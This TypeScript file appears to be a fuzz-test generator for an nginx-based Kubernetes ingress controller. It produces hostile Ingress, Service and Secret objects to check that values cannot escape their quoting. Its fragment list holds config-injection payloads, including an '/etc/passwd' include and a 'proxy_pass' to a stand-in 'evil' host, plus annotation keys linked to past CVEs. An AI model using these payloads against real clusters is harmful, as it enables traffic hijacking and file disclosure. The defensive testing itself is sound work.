// fast-check generators of hostile cluster objects: Ingresses, Services, Secrets and annotations whose
// strings carry nginx syntax (quotes, braces, `;`, CR/LF, `$`, `#`, `\`), unicode and very long values.
import fc from 'fast-check';
import type { Ingress, IngressTls, KubeObject, PathType, Secret } from '../../src/model/kube.js';
import type { TestCertificate } from './certificates.js';
import { ingress, meta, service, tlsSecret } from './objects.js';

/**
 * The word every injection payload carries as a bare nginx word. If it ever appears in a rendered config
 * outside a quoted argument (or in a comment), a value escaped its quoting.
 */
export const INJECTION_MARKER = 'pwnmarker';

const m = INJECTION_MARKER;

/** Pieces of nginx syntax and text that have broken configs before, each carrying the marker where it would land. */
export const HOSTILE_FRAGMENTS: readonly string[] = [
  ';',
  '{',
  '}',
  '"',
  "'",
  '\\',
  '$',
  '#',
  ' ',
  '\t',
  '\r\n',
  '\n',
  '\u0000',
  '\u007f',
  '%0a',
  '%3B',
  '../',
  '${host}',
  '$request_uri',
  '\u202e',
  'é',
  '\u{1f4a9}',
  '\u2028',
  `; ${m} on;`,
  `;\n${m} on;\n`,
  `}\n${m} {`,
  `} } ${m} { location / {`,
  `" ${m} "`,
  `' ${m} '`,
  `\\"; ${m};`,
  `\n# ${m}\n`,
  `\r\n${m} 1;`,
  `; return 200 ${m};`,
  `; include /etc/passwd; ${m};`,
  `\n}\nserver { listen 9999; ${m} x; }\n`,
  `$${m}`,
  `\${${m}}`,
  `;proxy_pass http://evil/${m};`,
];

/** A hostile string: fragments glued together, arbitrary code points, or a very long value. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.array(fc.oneof(fc.constantFrom(...HOSTILE_FRAGMENTS), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 6 }).map((parts) => parts.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('a', '/', ';', `${m} `), fc.integer({ min: 300, max: 17000 })).map(([unit, n]) => unit.repeat(n)) },
);

/** Characters the path grammar allows, so a share of generated paths is valid and gets served and routed. */
const pathCharacter = fc.constantFrom(...'abcxyz019-._~!&()*+,=:@/'.split(''));
const validPath = fc.array(pathCharacter, { maxLength: 12 }).map((chars) => `/${chars.join('')}`);
const hostilePath = fc.tuple(validPath, hostileString).map(([path, bad]) => `${path}${bad}`);

/** Hosts from a small pool, so Ingresses collide (conflicts, merges) as often as in a real cluster. */
const validHost = fc.constantFrom('h0.fuzz.test', 'h1.fuzz.test', 'h2.fuzz.test', 'H3.Fuzz.Test', '*.w.fuzz.test', 'x.w.fuzz.test');
const hostileHost = fc.oneof(
  fc.tuple(validHost, hostileString).map(([host, bad]) => `${host}${bad}`),
  hostileString,
  fc.constantFrom('10.0.0.1', 'bücher.test', '*', '*.*.test', '-a.test', `${'a'.repeat(64)}.test`, 'a..test'),
);

/** Services that exist and answer (named like the echo backend behind them), and one that does not. */
export const FUZZ_SERVICES = ['svc-a', 'svc-b', 'svc-c'] as const;
const serviceName = fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...FUZZ_SERVICES, 'svc-missing') }, { weight: 1, arbitrary: hostileString });
const servicePort = fc.oneof(
  { weight: 6, arbitrary: fc.constant<number | string>(80) },
  { weight: 1, arbitrary: fc.constant<number | string>('http') },
  { weight: 1, arbitrary: fc.oneof(fc.integer({ min: -5, max: 70000 }), fc.constantFrom(0, 1.5, Number.NaN), hostileString) },
);

/** Annotation keys the anchor's CVEs came through, plus arbitrary hostile keys. */
export const RISKY_ANNOTATION_KEYS: readonly string[] = [
  'nginx.ingress.kubernetes.io/configuration-snippet',
  'nginx.ingress.kubernetes.io/server-snippet',
  'nginx.ingress.kubernetes.io/auth-url',
  'nginx.ingress.kubernetes.io/auth-method',
  'nginx.ingress.kubernetes.io/auth-signin',
  'nginx.ingress.kubernetes.io/auth-response-headers',
  'nginx.ingress.kubernetes.io/auth-secret',
  'nginx.ingress.kubernetes.io/auth-realm',
  'nginx.ingress.kubernetes.io/auth-tls-match-cn',
  'nginx.ingress.kubernetes.io/auth-proxy-set-headers',
  'nginx.ingress.kubernetes.io/mirror-target',
  'nginx.ingress.kubernetes.io/mirror-host',
  'nginx.ingress.kubernetes.io/rewrite-target',
  'nginx.ingress.kubernetes.io/permanent-redirect',
  'nginx.ingress.kubernetes.io/proxy-read-timeout',
  'portico.dev/anything',
];
const annotations = fc.dictionary(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...RISKY_ANNOTATION_KEYS) }, { weight: 1, arbitrary: hostileString }), hostileString, {
  maxKeys: 4,
});

/** TLS Secret names: valid and present, broken, mismatched, missing, or hostile. */
const secretName = fc.oneof({ weight: 4, arbitrary: fc.constantFrom('tls-good', 'tls-other', 'tls-garbage', 'tls-missing') }, { weight: 1, arbitrary: hostileString });

/** The raw material of one generated Ingress, before it is given a unique name. */
export interface GeneratedIngress {
  readonly name: string;
  readonly className: string | null;
  readonly annotations: Record<string, string>;
  readonly rules: readonly { readonly host: string | undefined; readonly paths: readonly { path: string; pathType: PathType; service: string; port: number | string }[] }[];
  readonly tls: readonly IngressTls[];
  readonly defaultService: string | undefined;
}

/**
 * An Ingress whose spec is hostile (mixing hostile and valid values) or clean (valid spec, so it is served,
 * routed and requested); both carry hostile annotations, which no grammar refuses today.
 */
function ingressArbitrary(isHostile: boolean): fc.Arbitrary<GeneratedIngress> {
  const pick = <T>(valid: fc.Arbitrary<T>, hostile: fc.Arbitrary<T>, hostileWeight: number): fc.Arbitrary<T> =>
    isHostile ? fc.oneof({ weight: 4, arbitrary: valid }, { weight: hostileWeight, arbitrary: hostile }) : valid;
  const goodService = fc.constantFrom(...FUZZ_SERVICES, 'svc-missing');
  return fc.record({
    name: pick(fc.constantFrom('ing', 'web', 'api.v1'), hostileString, 1),
    className: fc.oneof({ weight: 8, arbitrary: fc.constant<string | null>('portico') }, { weight: 1, arbitrary: fc.constant<string | null>(null) }),
    annotations,
    rules: fc.array(
      fc.record({
        host: pick(fc.option(validHost, { nil: undefined, freq: 5 }), hostileHost, 2),
        paths: fc.array(
          fc.record({
            path: pick(validPath, hostilePath, 3),
            pathType: fc.constantFrom<PathType>('Exact', 'Prefix', 'ImplementationSpecific'),
            service: pick(goodService, serviceName, 1),
            port: pick(fc.constantFrom<number | string>(80, 80, 80, 'http'), servicePort, 1),
          }),
          { minLength: 1, maxLength: 4 },
        ),
      }),
      { minLength: 0, maxLength: 3 },
    ),
    tls: fc.array(fc.record({ hosts: fc.array(pick(validHost, hostileHost, 2), { maxLength: 2 }), secretName: fc.option(pick(fc.constantFrom('tls-good', 'tls-other', 'tls-garbage', 'tls-missing'), secretName, 1), { nil: undefined }) }), { maxLength: 2 }),
    defaultService: fc.option(pick(goodService, serviceName, 1), { nil: undefined, freq: 4 }),
  });
}

const generatedIngress: fc.Arbitrary<GeneratedIngress> = fc.oneof(ingressArbitrary(false), ingressArbitrary(true));

/** Service objects with hostile names and port names: only exact (valid) names are ever looked up. */
const generatedService = fc.record({ name: hostileString, portName: hostileString });

/** Secrets with hostile names and hostile data under the TLS keys. */
const generatedSecret = fc.record({ name: hostileString, certificate: hostileString, key: hostileString });

/** One generated cluster: the Ingresses plus the hostile Services and Secrets beside the good ones. */
export interface GeneratedCluster {
  readonly ingresses: readonly GeneratedIngress[];
  readonly services: readonly { name: string; portName: string }[];
  readonly secrets: readonly { name: string; certificate: string; key: string }[];
}

/** `size` Ingresses per cluster; batching many into one config keeps `nginx -t` affordable. */
export function generatedCluster(size: { readonly min: number; readonly max: number }): fc.Arbitrary<GeneratedCluster> {
  return fc.record({
    ingresses: fc.array(generatedIngress, { minLength: size.min, maxLength: size.max }),
    services: fc.array(generatedService, { maxLength: 2 }),
    secrets: fc.array(generatedSecret, { maxLength: 2 }),
  });
}

/** The good objects every generated cluster shares: its Services, their endpoints and the TLS Secrets. */
export interface FuzzFixtures {
  /** Echo backend port per name in FUZZ_SERVICES. */
  readonly backendPorts: Readonly<Record<(typeof FUZZ_SERVICES)[number], number>>;
  /** Covers `*.fuzz.test` and `*.w.fuzz.test`. */
  readonly certificate: TestCertificate;
  /** Covers other names only. */
  readonly otherCertificate: TestCertificate;
}

/**
 * The objects of a generated cluster. Every Ingress gets a unique name (an index suffix), so each
 * diagnostic names exactly one generated Ingress: `ingressName(i, generated)`.
 */
export function clusterObjects(cluster: GeneratedCluster, fixtures: FuzzFixtures): { objects: KubeObject[]; ingresses: Ingress[] } {
  const ingresses = cluster.ingresses.map((g, i) => {
    return ingress(ingressName(i, g), {
      className: g.className,
      annotations: g.annotations,
      rules: g.rules.map((rule) => (rule.host === undefined ? { paths: rule.paths } : { host: rule.host, paths: rule.paths })),
      tls: g.tls,
      ...(g.defaultService === undefined ? {} : { defaultBackend: { service: g.defaultService } }),
    });
  });
  const objects: KubeObject[] = [...ingresses];
  for (const name of FUZZ_SERVICES) {
    objects.push(service(name, { ports: [{ name: 'http', port: 80, targetPort: fixtures.backendPorts[name] }] }));
    objects.push({
      kind: 'EndpointSlice',
      metadata: meta(`${name}-1`, 'default', { labels: { 'kubernetes.io/service-name': name } }),
      serviceName: name,
      addressType: 'IPv4',
      endpoints: [{ addresses: ['127.0.0.1'], ready: true }],
      ports: [{ name: 'http', port: fixtures.backendPorts[name], protocol: 'TCP' }],
    });
  }
  objects.push(tlsSecret('tls-good', fixtures.certificate), tlsSecret('tls-other', fixtures.otherCertificate));
  objects.push(tlsSecret('tls-garbage', { certificatePem: `-----BEGIN CERTIFICATE-----\n${m};}\n-----END CERTIFICATE-----\n`, keyPem: 'not a key' }));
  // A hostile object must never stand in for a good one of the same name: those are the fixture's.
  const taken = new Set<string>([...FUZZ_SERVICES, 'tls-good', 'tls-other', 'tls-garbage']);
  const rename = (name: string): string => (taken.has(name) ? `${name}-hostile` : name);
  for (const s of cluster.services) objects.push(service(rename(s.name), { ports: [{ name: s.portName, port: 80, targetPort: 1 }] }));
  for (const s of cluster.secrets) {
    const secret: Secret = { kind: 'Secret', metadata: meta(rename(s.name)), type: 'kubernetes.io/tls', data: { 'tls.crt': s.certificate, 'tls.key': s.key } };
    objects.push(secret);
  }
  return { objects, ingresses };
}

/** The unique name of the i-th generated Ingress. */
export function ingressName(i: number, generated: GeneratedIngress): string {
  return `${generated.name}-${i}`;
}

/** Whether a generated Service is one of the good ones (only those may be routed to). */
export function isFuzzService(name: string): name is (typeof FUZZ_SERVICES)[number] {
  return (FUZZ_SERVICES as readonly string[]).includes(name);
}
